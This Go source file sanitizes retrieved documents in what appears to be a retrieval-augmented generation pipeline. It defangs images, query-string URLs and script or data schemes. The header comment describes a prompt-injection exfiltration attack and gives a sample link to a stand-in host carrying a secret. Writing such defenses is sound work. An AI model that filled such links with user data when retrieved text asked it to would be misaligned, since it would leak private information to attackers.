package generate

import (
	"regexp"
	"strings"
)

// Exfiltration links. A retrieved document can carry a Markdown image or a
// URL whose query string a model is led to fill with what it knows
// ("![x](https://evil.example/p?d=SECRET)"); a chat client that renders
// the answer then fetches it. Inside sources such links are defanged, with
// one scheme:
//
//   - every image becomes inert text "(image: ALT; TARGET)": Markdown
//     inline images, reference images ("![alt][ref]"), HTML <img> tags
//     (an image fetches itself, so its target is defanged even without a
//     query string, and a left-over "!" before "[" is dropped);
//   - a URL carrying a query string loses its live scheme: "https://" →
//     "hxxps://", "http://" → "hxxp://", "ftp://" → "fxp://", a scheme-less
//     "www." or "//" host gains "hxxp://" or "hxxps:"; the rest stays
//     readable;
//   - a javascript:, vbscript:, livescript:, data: or file: target of a
//     link, autolink or HTML attribute loses its colon ("javascript -…").
//
// Plain links without a query string are kept as written: manuals cite
// URLs legitimately, and a model may quote them.

var (
	// mdImage is an inline image with an optional title.
	mdImage = regexp.MustCompile(`!\[([^\[\]\n]{0,300})\]\(\s*<?([^\s()<>]*)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?\s*\)`)
	// mdRefImage is a full or collapsed reference image.
	mdRefImage = regexp.MustCompile(`!\[([^\[\]\n]{0,300})\]\s?\[[^\[\]\n]{0,100}\]`)
	// htmlImage is an <img> tag; NFKC has folded look-alike brackets.
	htmlImage = regexp.MustCompile(`(?i)<\s*img\b[^<>]{0,1000}>`)
	// htmlImageOpen is an <img tag left unclosed.
	htmlImageOpen = regexp.MustCompile(`(?i)<\s*(img\b)`)
	htmlAlt       = regexp.MustCompile(`(?i)\balt\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))`)
	htmlSrc       = regexp.MustCompile(`(?i)\b(?:src|srcset|data-src)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))`)
	// liveURL is a URL with a scheme a renderer links, white space allowed
	// around its punctuation as an obfuscation would put it. A backtick
	// does not end it: GitHub-flavoured autolinks run to white space or
	// "<", so "http://host/x`?q=…" is one live link carrying a query.
	liveURL = regexp.MustCompile(`(?i)\b(https?|ftp)\s*:\s*/\s*/[^\s<>"']*`)
	// wwwURL is a scheme-less host GitHub-flavoured Markdown links.
	wwwURL = regexp.MustCompile(`(?i)(^|[\s*_~(])(www\.[^\s<>"']*)`)
	// relURL is a protocol-relative target of a link or attribute.
	relURL = regexp.MustCompile(`(?i)(\]\(\s*<?\s*|=\s*["']?\s*)(//[^\s<>"')]*)`)
	// badScheme is a script or data scheme in a link, autolink or
	// attribute position.
	badScheme = regexp.MustCompile(`(?i)((?:\]\(\s*<?|\]:[ \t]*<?|\b(?:href|src|srcset|action|formaction|poster|background|data|xlink:href|cite|longdesc|ping|lowsrc|dynsrc)\s*=\s*["']?|<)\s*)(javascript|vbscript|livescript|data|file)\s*:`)
	// badTarget is a link target with a script or data scheme.
	badTarget = regexp.MustCompile(`(?i)^(javascript|vbscript|livescript|data|file)\s*:`)
)

// hasQuery reports whether a URL carries a query string.
func hasQuery(u string) bool {
	i := strings.IndexByte(u, '?')
	return i >= 0 && i+1 < len(u)
}

// defangURL returns the inert form of a link target; image targets are
// defanged even without a query string.
func defangURL(u string, image bool) string {
	u = strings.TrimSpace(u)
	lower := strings.ToLower(u)
	live := liveURL.FindStringIndex(u)
	switch {
	case u == "":
		return ""
	case live != nil && live[0] == 0:
		if !image && !hasQuery(u) {
			return u
		}
		i := strings.Index(lower, ":")
		scheme := strings.TrimSpace(lower[:i])
		return map[string]string{"http": "hxxp", "https": "hxxps", "ftp": "fxp"}[scheme] + u[len(scheme):]
	case strings.HasPrefix(u, "//"):
		if !image && !hasQuery(u) {
			return u
		}
		return "hxxps:" + u
	case strings.HasPrefix(lower, "www."):
		if !image && !hasQuery(u) {
			return u
		}
		return "hxxp://" + u
	}
	return badTarget.ReplaceAllString(u, "$1 -")
}

func imageText(alt, target string) string {
	alt = strings.TrimSpace(alt)
	if t := defangURL(target, true); t != "" {
		return "(image: " + alt + "; " + t + ")"
	}
	return "(image: " + alt + ")"
}

func firstGroup(m []string) string {
	for _, g := range m[1:] {
		if g != "" {
			return g
		}
	}
	return ""
}

// neutralizeLinks defangs images and exfiltration links (see above).
func neutralizeLinks(s string, found *flagSet) string {
	if !strings.ContainsAny(s, "/:![<") {
		return s
	}
	orig := s
	lower := strings.ToLower(s)
	if strings.Contains(lower, "img") {
		s = htmlImage.ReplaceAllStringFunc(s, func(tag string) string {
			var alt, src string
			if m := htmlAlt.FindStringSubmatch(tag); m != nil {
				alt = firstGroup(m)
			}
			if m := htmlSrc.FindStringSubmatch(tag); m != nil {
				src = firstGroup(m)
			}
			return imageText(alt, src)
		})
		s = htmlImageOpen.ReplaceAllString(s, "($1")
	}
	if strings.Contains(s, "![") {
		s = mdImage.ReplaceAllStringFunc(s, func(m string) string {
			g := mdImage.FindStringSubmatch(m)
			return imageText(g[1], g[2])
		})
		s = mdRefImage.ReplaceAllStringFunc(s, func(m string) string {
			return imageText(mdRefImage.FindStringSubmatch(m)[1], "")
		})
		s = strings.ReplaceAll(s, "![", "[")
	}
	if strings.Contains(lower, "script") || strings.Contains(lower, "data") || strings.Contains(lower, "file") {
		s = badScheme.ReplaceAllString(s, "$1$2 -")
	}
	if strings.Contains(s, "//") {
		s = relURL.ReplaceAllStringFunc(s, func(m string) string {
			g := relURL.FindStringSubmatch(m)
			return g[1] + defangURL(g[2], false)
		})
		s = liveURL.ReplaceAllStringFunc(s, func(u string) string { return defangURL(u, false) })
	}
	if strings.Contains(lower, "www.") {
		s = wwwURL.ReplaceAllStringFunc(s, func(m string) string {
			g := wwwURL.FindStringSubmatch(m)
			return g[1] + defangURL(g[2], false)
		})
	}
	if s != orig {
		found.add(FlagLink)
	}
	return s
}
